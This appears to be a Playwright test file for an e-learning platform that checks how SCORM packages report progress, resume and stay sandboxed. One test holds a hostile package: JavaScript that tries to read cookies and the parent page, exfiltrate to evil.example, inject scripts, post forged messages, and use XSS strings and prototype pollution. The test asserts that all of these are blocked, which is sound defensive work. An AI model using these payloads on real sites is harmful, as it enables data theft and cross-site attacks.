"""Packages that others made, played in a lesson: they report, and they reach nothing of ours."""

import json
import os
import re
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from tests.e2e.site import INES, NADIA, ROOT, eventually
from tests.learning.packages import package


SHARED = Path(os.environ.get("PASSERELLE_SHARED") or ROOT.parent / "shared") / "data"
MOODLE = SHARED / "moodle" / "mod" / "scorm" / "tests" / "packages"
MAKE_LESSON = """
import json
from learning.models import LessonPage, ModulePage, ScormPackage
package = ScormPackage.objects.get(title={title!r})
module = ModulePage.objects.live().order_by("path").first()
page = LessonPage(title="Avec " + {title!r}, slug={slug!r}, goal="vous saurez.", body=json.dumps(
    [{{"type": "scorm", "value": {{"package": package.pk, "required": True}}}}]))
module.add_child(instance=page)
print(page.url)
"""
STATES = """
import json
from learning.models import ScormState
print(json.dumps([
    [s.unit, s.completed_at is not None, s.percent, s.data, s.sequence]
    for s in ScormState.objects.filter(package__title={title!r}).order_by("unit")
]))
"""
COMPLETED = """
from learning.queries.done import completed_packages
from people.models import Person
print(completed_packages(person=Person.objects.get(email={person!r})).filter(package__title={title!r}).exists())
"""


@pytest.fixture(scope="module")
def lesson(site, tmp_path_factory):
    """Takes a package in and puts it into a lesson. Returns the lesson's address."""
    folder = tmp_path_factory.mktemp("packages")
    made = {}

    def put(title, source):
        if title not in made:
            path = source
            if not isinstance(source, Path):
                path = folder / f"{len(made)}.zip"
                path.write_bytes(source.getvalue())
            site.manage("import_scorm", str(path), "--title", title)
            code = MAKE_LESSON.format(title=title, slug=f"scorm-{len(made)}")
            made[title] = urlsplit(site.shell(code).splitlines()[-1]).path
        return made[title]

    return put


@pytest.fixture
def learner(visitor, site):
    """What is fetched from the packages' own origin is no complaint; a dialog is answered yes."""

    def sign_in(name=NADIA, **options):
        one = visitor(name, **options)
        one.page.on("dialog", lambda dialog: dialog.accept())
        one.page.remove_listener("request", one._asked)
        apart = site.url.replace("127.0.0.1", "packages.localhost")
        one.page.on(
            "request", lambda request: request.url.startswith(apart + "/") or one._asked(request)
        )
        return one

    return sign_in


def states(site, title):
    return json.loads(site.shell(STATES.format(title=title)).splitlines()[-1])


def opened(one, address, *, part=""):
    """The unit's own frame, once the lesson's button was pressed."""
    one.visit(address)
    one.page.locator("main a[href*='/contenus/']").first.click()
    if part:
        one.page.locator(".toc a", has_text=part).click()
    return unit_of(one)


def begun(unit):
    """A page of the unit is there: its buttons can be pressed before, and are forgotten when it begins."""
    expect(unit.locator("#contentFrame")).to_have_attribute("src", re.compile(r"\w"))


def unit_of(one):
    return one.page.frame_locator("[data-scorm-player] iframe").frame_locator("iframe")


def said(one, name):
    expect(one.page.locator(f"[data-said={name}]")).to_be_visible()


def kept_by(site, title):
    return [data.get("cmi.suspend_data") for *_said, data, _sequence in states(site, title)]


needs_samples = pytest.mark.skipif(
    not MOODLE.is_dir(), reason="no sample data: set PASSERELLE_SHARED"
)


def leave(one, address):
    one.page.locator(".scorm__ways a").first.click()
    one.page.wait_for_url(f"**{address}")


@needs_samples
def test_a_course_of_one_unit_is_followed_to_its_end_and_taken_up_where_it_was_left(
    learner, lesson, site
):
    address = lesson("Golf", MOODLE / "singlescobasic.zip")
    one = learner()
    unit = opened(one, address)
    begun(unit)
    one.check()
    unit.locator("#butNext").click()
    unit.locator("#butNext").click()
    leave(one, address)
    name, is_completed, percent, data, _sequence = states(site, "Golf")[0]
    assert (name, is_completed, percent) == ("item_1", False, None)
    assert data["cmi.core.lesson_location"] == "2"

    unit = opened(one, address)  # it asks whether to go on from there, and is told yes
    begun(unit)
    for _page in range(13):
        unit.locator("#butNext").click()
    expect(unit.locator("#butNext")).to_be_disabled()  # the fifteenth from the third
    leave(one, address)
    one.check()
    assert states(site, "Golf")[0][1] is True
    counted = COMPLETED.format(person=NADIA, title="Golf")
    assert site.shell(counted).splitlines()[-1] == "True"


@needs_samples
@pytest.mark.parametrize(
    "name", ["RuntimeMinimumCalls_SCORM12.zip", "RuntimeMinimumCalls_SCORM12-mini.zip"]
)
def test_a_unit_that_only_begins_and_ends_is_completed_when_it_is_left(learner, lesson, site, name):
    title = "Golf, " + name.removesuffix(".zip")
    address = lesson(title, MOODLE / name)
    one = learner(viewport={"width": 360, "height": 740})
    unit = opened(one, address)
    expect(unit.locator("body")).not_to_be_empty()
    said(one, "opened")
    one.check()
    one.page.locator(".toc a", has_text="Par?").click()
    one.page.wait_for_url("**unite=playing_par_item")
    expect(unit_of(one).locator("body")).to_contain_text("par", ignore_case=True)
    assert [state[:2] for state in states(site, title)] == [["playing_playing_item", True]]


@needs_samples
def test_a_unit_that_never_calls_its_run_time_is_shown_and_completes_nothing(learner, lesson, site):
    address = lesson("Golf, muet", MOODLE / "singlesco_scorm12.zip")
    one = learner()
    expect(opened(one, address).locator("body")).not_to_be_empty()
    leave(one, address)
    assert [state[1] for state in states(site, "Golf, muet")] == [False]


GOODBYE = """<!doctype html><title>Au revoir</title><p id="heard">…</p><script>
const api = window.parent.API; api.LMSInitialize("");
document.getElementById("heard").textContent =
  [api.LMSGetValue("cmi.core.entry"), api.LMSGetValue("cmi.suspend_data")].join("|");
api.LMSSetValue("cmi.core.lesson_status", "incomplete");
api.LMSSetValue("cmi.core.lesson_location", "3");
api.LMSCommit("");
window.addEventListener("HOW", () => {
  api.LMSSetValue("cmi.suspend_data", "dit en partant");
  api.LMSSetValue("cmi.core.exit", "suspend");
  api.LMSFinish("");
});
</script>"""


@pytest.mark.parametrize("how", ["unload", "pagehide", "beforeunload"])
def test_what_a_unit_says_while_it_is_left_is_kept_and_it_resumes(learner, lesson, site, how):
    title = f"Au revoir, {how}"
    address = lesson(title, package({"a.html": GOODBYE.replace("HOW", how)}, title=title))
    one = learner()
    expect(opened(one, address).locator("#heard")).to_have_text("ab-initio|")
    leave(one, address)
    expect(opened(one, address).locator("#heard")).to_have_text("resume|dit en partant")

    one.page.close()  # by the browser: what is said in that moment is lost, the place is not
    one.page = one.context.new_page()
    expect(opened(one, address).locator("#heard")).to_contain_text("resume|")
    assert states(site, title)[0][3]["cmi.core.lesson_location"] == "3"


SCO_2004 = """<!doctype html><title>Unité</title><p id="heard">…</p><button>Finir</button><script>
let w = window; while (!w.API_1484_11 && w.parent !== w) w = w.parent;
const api = w.API_1484_11;
api.Initialize("");
document.getElementById("heard").textContent = [
  api.GetValue("cmi.entry"), api.GetValue("cmi.suspend_data"), api.GetValue("cmi.scaled_passing_score"),
  api.GetValue("cmi.interactions._count"), api.GetValue("cmi.learner_name"), location.search].join("|");
api.SetValue("cmi.suspend_data", "étape « 2 »");
api.SetValue("cmi.interactions.0.id", "q1");
api.SetValue("cmi.interactions.0.type", "choice");
api.SetValue("cmi.interactions.0.learner_response", "b");
api.SetValue("cmi.exit", "suspend");
api.Commit("");
document.querySelector("button").onclick = () => {
  api.SetValue("cmi.score.scaled", "0.9");
  api.SetValue("cmi.success_status", "passed");
  api.SetValue("cmi.completion_status", "completed");
  api.Terminate("");
};
</script>"""
ITEM_2004 = (
    '<item identifier="i" identifierref="r-a" parameters="?n=1"><title>Unité</title><imsss:sequencing>'
    "<imsss:objectives><imsss:primaryObjective><imsss:minNormalizedMeasure>0.6"
    "</imsss:minNormalizedMeasure></imsss:primaryObjective></imsss:objectives></imsss:sequencing></item>"
)


@pytest.mark.smoke
def test_a_unit_of_2004_reports_is_completed_and_is_given_back_what_it_kept(learner, lesson, site):
    address = lesson("2004", package({"a.html": SCO_2004}, version="2004", items=ITEM_2004))
    one = learner()
    unit = opened(one, address)
    expect(unit.locator("#heard")).to_contain_text("ab-initio||0.6|0|")
    expect(unit.locator("#heard")).to_contain_text("?n=1")
    said(one, "kept")
    one.page.reload()
    expect(unit_of(one).locator("#heard")).to_contain_text("resume|étape « 2 »|0.6|1|")
    unit_of(one).locator("button").click()
    said(one, "completed")
    leave(one, address)

    ((name, is_completed, percent, data, _sequence),) = states(site, "2004")
    assert (name, is_completed, percent) == ("i", True, 90)
    assert data["cmi.interactions.0.learner_response"] == "b"
    assert not {key for key in data if "time" in key or "learner_name" in key}


def test_pages_without_a_run_time_are_completed_by_being_opened(learner, lesson, site):
    address = lesson("Pages", package({}, kind="asset", units=("un", "deux")))
    one = learner()
    expect(opened(one, address).locator("body")).to_contain_text("Partie un")
    said(one, "completed")
    one.page.locator(".scorm__ways a").last.click()
    expect(unit_of(one).locator("body")).to_contain_text("Partie deux")
    said(one, "completed")
    assert [state[1] for state in states(site, "Pages")] == [True, True]


COUNTING = """<!doctype html><title>Compte</title><button>Plus</button><script>
const api = window.parent.API; api.LMSInitialize("");
let n = Number(api.LMSGetValue("cmi.suspend_data") || 0);
document.querySelector("button").onclick = () => {
  n += 1; api.LMSSetValue("cmi.suspend_data", String(n)); api.LMSCommit("");
};
</script>"""


def test_what_is_done_without_a_connection_is_kept_when_it_is_back(learner, lesson, site):
    address = lesson("Compte", package({"a.html": COUNTING}))
    one = learner()
    unit = opened(one, address)
    unit.locator("button").click()
    said(one, "kept")
    one.context.set_offline(True)
    unit.locator("button").click()
    said(one, "offline")
    unit.locator("button").click()
    one.context.set_offline(False)
    said(one, "kept")
    assert states(site, "Compte")[0][3]["cmi.suspend_data"] == "3"
    one.complaints[:] = [each for each in one.complaints if "ERR_INTERNET_DISCONNECTED" not in each]


def test_of_two_windows_the_one_behind_is_told_and_undoes_nothing(learner, lesson, site):
    address = lesson("Fenêtres", package({"a.html": COUNTING}, title="Fenêtres"))
    one = learner()
    first = opened(one, address)
    expect(first.locator("button")).to_be_visible()
    second = one.context.new_page()
    second.goto(one.page.url)
    unit = second.frame_locator("[data-scorm-player] iframe").frame_locator("iframe")
    for _click in range(2):
        with second.expect_response(lambda answer: answer.url.endswith("/etat/")):
            unit.locator("button").click()
    expect(second.locator("[data-said=kept]")).to_be_visible()
    site_state = states(site, "Fenêtres")[0]
    first.locator("button").click()
    said(one, "stale")
    assert states(site, "Fenêtres")[0] == site_state


HEAR = """() => {
  window.reported = new Promise((resolve) =>
    window.addEventListener("message", (event) => event.data.kind === "state" && resolve()));
}"""


def test_what_was_not_committed_is_kept_when_the_page_is_left(learner, lesson, site):
    content = COUNTING.replace('api.LMSCommit("");', "")
    address = lesson("Départ", package({"a.html": content}, title="Départ"))
    one = learner()
    unit = opened(one, address)
    one.page.evaluate(HEAR)
    unit.locator("button").click()
    one.page.evaluate("window.reported")  # the wrapper tells of it after a moment
    one.go("/")
    eventually(lambda: kept_by(site, "Départ") == ["1"], "what was told is kept")


def test_what_is_too_large_to_be_sent_on_the_way_out_is_sent_without_a_commit(
    learner, lesson, site
):
    content = COUNTING.replace("String(n)", "'é'.repeat(63999) + n").replace(
        'api.LMSCommit("");', ""
    )
    address = lesson("Lourd", package({"a.html": content}, title="Lourd"))
    one = learner()
    opened(one, address).locator("button").click()
    said(one, "kept")
    assert len(states(site, "Lourd")[0][3]["cmi.suspend_data"]) >= 64_000


def test_long_titles_do_not_widen_a_page(learner, lesson):
    title, part = "Un" + "interminable" * 12, "Une" + "partie" * 20
    items = "".join(
        f'<item identifier="{name}" identifierref="r-{name}"><title>{part}{name}</title></item>'
        for name in "ab"
    )
    address = lesson(title, package({}, title=title, units=("a", "b"), items=items))
    one = learner(viewport={"width": 360, "height": 740})
    one.visit(address)
    opened(one, address)
    one.check()


def test_without_script_the_page_says_that_it_is_impossible(learner, lesson):
    address = lesson("Compte", package({"a.html": COUNTING}))
    one = learner(java_script_enabled=False)
    one.go(address)
    one.page.locator("main a[href*='/contenus/']").first.click()
    expect(one.page.locator("noscript .callout, .callout")).to_be_visible()
    expect(one.page.locator("iframe")).to_be_hidden()


HOSTILE = """<!doctype html><title>Hostile</title><p id="done">…</p><form id="f" method="post"
action="MAIN/compte/apparence/"><input name="theme" value="dark"></form><div id="more"></div>
<a id="out" target="_top" href="OTHER/clicked" ping="OTHER/ping">1</a> <a id="window" target="_blank" href="OTHER/window">2</a>
<a id="download" download="facture.exe" href="a.html">3</a>
<button id="send" onclick="document.getElementById('f').submit()">4</button><script>
const found = {};
const attempt = async (name, act) => { try { found[name] = String(await act()); } catch (e) { found[name] = "no"; } };
(async () => {
  await attempt("document", () => top.document.title);
  await attempt("cookie", () => document.cookie || "no");
  await attempt("storage", () => top.localStorage.length);
  await attempt("main", async () => (await fetch("MAIN/compte/mes-donnees/", {credentials: "include"})).status);
  await attempt("no-cors", async () => (await fetch("MAIN/", {mode: "no-cors", credentials: "include"})).type);
  await attempt("outside", async () => (await fetch("https://evil.example/", {mode: "no-cors"})).type);
  await attempt("image", () => new Promise((yes, no) => { const i = new Image(); i.onload = () => yes("yes"); i.onerror = no; i.src = "MAIN/static/icons/passerelle.svg"; }));
  await attempt("beacon", () => navigator.sendBeacon("https://evil.example/") ? "sent" : "no");
  await attempt("window", () => window.open("https://evil.example/") ? "opened" : "no");
  await attempt("top", () => { top.location = "https://evil.example/"; return "asked"; });
  await attempt("port", async () => (await fetch("OTHER/", {mode: "no-cors"})).type);
  await attempt("image-port", () => new Promise((yes, no) => { const i = new Image(); i.onload = () => yes("yes"); i.onerror = no; i.src = "OTHER/x.png"; }));
  await attempt("xhr", () => new Promise((yes, no) => { const x = new XMLHttpRequest(); x.onload = () => yes("yes"); x.onerror = no; x.open("GET", "OTHER/xhr"); x.send(); }));
  await attempt("socket", () => new Promise((yes, no) => { const w = new WebSocket("OTHER/".replace("http", "ws")); w.onopen = () => yes("yes"); w.onerror = no; setTimeout(no, 2000); }));
  await attempt("worker", () => navigator.serviceWorker.register("sw.js").then(() => "registered"));
  await attempt("above", () => { window.top.postMessage({kind: "state", keep: true, data: {"cmi.suspend_data": "faux"}}, "*"); return "asked"; });
  await attempt("eval", () => window.parent.eval("1"));
  await attempt("forged", () => new Promise((yes, no) => {
    const script = window.parent.document.createElement("script");
    script.src = location.pathname.replace("a.html", "forge.js");
    script.onload = () => yes("yes"); script.onerror = no;
    window.parent.document.head.append(script);
  }));
  await attempt("shared-worker", () => new Promise((yes, no) => { const w = new SharedWorker("sw.js"); w.onerror = no; w.port.onmessage = () => yes("yes"); setTimeout(no, 1000); }));
  await attempt("blob-worker", () => new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); w.onerror = no; w.onmessage = () => yes("yes"); setTimeout(no, 1000); }));
  await attempt("import", () => import("OTHER/module.js").then(() => "yes"));
  await attempt("database", () => top.indexedDB);
  await attempt("caches", () => top.caches);
  await attempt("position", () => new Promise((yes, no) => { navigator.geolocation.getCurrentPosition(() => yes("yes"), no); }));
  await attempt("camera", () => navigator.mediaDevices.getUserMedia({video: true}).then(() => "yes"));
  await attempt("clipboard", () => navigator.clipboard.readText());
  await attempt("notices", async () => await Notification.requestPermission() === "granted" ? "yes" : "no");
  await attempt("screen", () => navigator.mediaDevices.getDisplayMedia().then(() => "yes"));
  await attempt("script-above", () => { top.location = "javascript:window.harmed=1"; return "asked"; });
  document.getElementById("more").innerHTML = `
    <link rel="prefetch" href="OTHER/prefetch"><link rel="preload" as="image" href="OTHER/preload">
    <link rel="stylesheet" href="OTHER/sheet.css"><style>@import "OTHER/import.css"; p { background: url(OTHER/background.png) }</style>
    <link rel="icon" href="OTHER/icon.png"><link rel="manifest" href="OTHER/manifest.json">
    <video src="OTHER/video.mp4" autoplay></video><audio src="OTHER/sound.mp3" autoplay></audio>
    <object data="OTHER/object"></object><embed src="OTHER/embed"><svg><image href="OTHER/image.svg"/></svg>
    <iframe src="OTHER/frame"></iframe><input type="image" src="OTHER/input.png">
    <iframe srcdoc='<meta http-equiv="refresh" content="0;url=OTHER/refresh">'></iframe>
    <iframe srcdoc='<form method="post" target="_top" action="MAIN/compte/apparence/"><input name="theme" value="dark"></form><script>document.forms[0].submit()<\\/script>'></iframe>
    <iframe sandbox="allow-scripts allow-top-navigation allow-popups" srcdoc='<script>top.location = "OTHER/nested"; open("OTHER/popup")<\\/script>'></iframe>`;
  const rules = document.createElement("script");
  rules.type = "speculationrules";
  rules.textContent = '{"prefetch": [{"urls": ["OTHER/speculation"]}]}';
  document.head.append(rules);
  await new Promise((resolve) => setTimeout(resolve, 1500));
  console.log("FOUND" + JSON.stringify(found));
})();
</script>"""
# Runs in the page around the unit, which may post to ours: what it says there is words of a stranger.
FORGE = """
for (const shape of [null, 1, "x", [], {}, {kind: "state"}, {kind: "state", data: 1, keep: true},
    {kind: "__proto__"}, {kind: "constructor"}, {kind: {}}, {kind: "state", data: {a: {b: 1}}, keep: true},
    {kind: "state", keep: true, data: {"cmi.suspend_data": "x".repeat(9000000)}},
    new Map([["kind", "state"]]), new ArrayBuffer(8), {kind: "closed"}, {kind: "state", data: new Map(), finished: {}},
    JSON.parse('{"kind": "state", "keep": true, "data": {"__proto__": {"hidden": "1"}}}'),
    {kind: "state", keep: true, data: {"<img src=x onerror=window.harmed=1>": "<script>window.harmed=1</script>"}}]) {
  above.postMessage(shape, "*");
}
for (let n = 0; n < 300; n++) above.postMessage({kind: "state", keep: true, data: {"cmi.suspend_data": String(n)}}, "*");
"""
HARMFUL = "Hostile \"'><img src=x onerror=window.harmed=1></script>\u202eexe"
NOTHING = dict.fromkeys(
    ["document", "cookie", "storage", "main", "no-cors", "outside", "image", "window", "worker", "top",
     "port", "image-port", "xhr", "socket", "eval", "shared-worker", "blob-worker", "import", "database",
     "caches", "position", "camera", "clipboard", "notices", "screen", "script-above"],
    "no",
)  # fmt: skip
# What the browser says that it refused.
REFUSALS = {
    "requests": "connect-src 'self'",
    "images": "violates the following Content Security Policy directive",
    "forms": "form-action 'none'",
    "windows": "Blocked opening 'https://evil.example/'",
    "the page above": "Unsafe attempt to initiate navigation",
    "workers": "Creating a worker from",
    "our pages": "Framing '",
}


@pytest.fixture
def other_port():
    """Another service of the same machine. Yields its address and what it was asked."""
    asked = []

    class Answer(BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, *_said):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Answer)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    server.server_close()


def test_a_hostile_package_reaches_nothing_and_breaks_nothing(learner, lesson, site, other_port):
    other, asked = other_port
    content = HOSTILE.replace("MAIN", site.url).replace("OTHER", other)
    files = {"a.html": content, "forge.js": FORGE, "sw.js": ""}
    address = lesson(HARMFUL, package(files, title=HARMFUL))
    one = learner(service_workers="allow")  # the server refuses them, not the test
    gone, downloads = [], []
    one.page.on("request", lambda request: gone.append(request.url))
    one.page.on("download", lambda download: downloads.append(download.url))
    with one.page.expect_console_message(lambda said: said.text.startswith("FOUND")) as told:
        unit = opened(one, address)
    player = one.page.url
    found = json.loads(told.value.text.removeprefix("FOUND"))
    assert {name: found[name] for name in NOTHING} == NOTHING, found
    for name in ("#out", "#window", "#download", "#send"):  # a click lets a page do more
        unit.locator(name).click()

    assert asked == []
    assert found["forged"] == "yes"
    said(one, "kept")  # the last of three hundred, sent a few at a time
    assert states(site, HARMFUL)[0][3] == {"cmi.suspend_data": "299"}
    assert states(site, HARMFUL)[0][4] < 20
    assert downloads == []
    assert one.page.url == player
    assert len(one.context.pages) == 1
    assert one.page.evaluate("window.harmed") is None
    apart = site.url.replace("127.0.0.1", "packages.localhost")
    # An attempt on the other port is told as a request, and was refused before it left.
    assert [url for url in gone if not url.startswith((site.url, apart, other))] == []
    assert [url for url in gone if url.startswith(site.url) and "mes-donnees" in url] == []
    expect(one.page.locator(".scorm__ways a").first).to_be_visible()
    one.page.locator(".scorm__ways a").first.click()
    one.page.wait_for_url(f"**{address}")
    one.visit("/")
    assert one.page.locator("html").get_attribute("data-theme") != "dark"
    for what, words in REFUSALS.items():
        assert any(words in each for each in one.complaints), (what, one.complaints)
    one.complaints.clear()


def test_a_package_that_sends_its_frame_to_our_pages_shows_none(learner, lesson, site):
    content = (
        f"<title>Fuite</title><script>parent.location = '{site.url}/compte/mes-donnees/'</script>"
    )
    address = lesson("Fuite", package({"a.html": content}, title="Fuite"))
    one = learner()
    gone = []
    one.page.on("requestfinished", lambda request: gone.append(request.url))
    with one.page.expect_console_message(lambda said: REFUSALS["the page above"] in said.text):
        opened(one, address)
    assert [url for url in gone if "mes-donnees" in url] == []
    expect(one.page.locator(".scorm__ways a").first).to_be_visible()
    one.complaints.clear()


def test_an_editor_takes_a_package_in_tries_it_and_nothing_is_kept(learner, site, tmp_path):
    path = tmp_path / "cours.zip"
    path.write_bytes(package({"a.html": COUNTING}, title="À l’essai").getvalue())
    one = learner(INES)
    one.go("/admin/snippets/learning/scormpackage/add/")
    one.page.locator("input[type=file]").set_input_files(path)
    one.check_admin()
    one.page.locator("main form button[type=submit]").last.click()
    one.page.wait_for_url("**/found/**")
    one.check_admin()
    one.page.locator("main a[href*='/essai/']").click()
    unit_of(one).locator("button").click()
    said(one, "tried")
    one.check()
    assert states(site, "À l’essai") == []
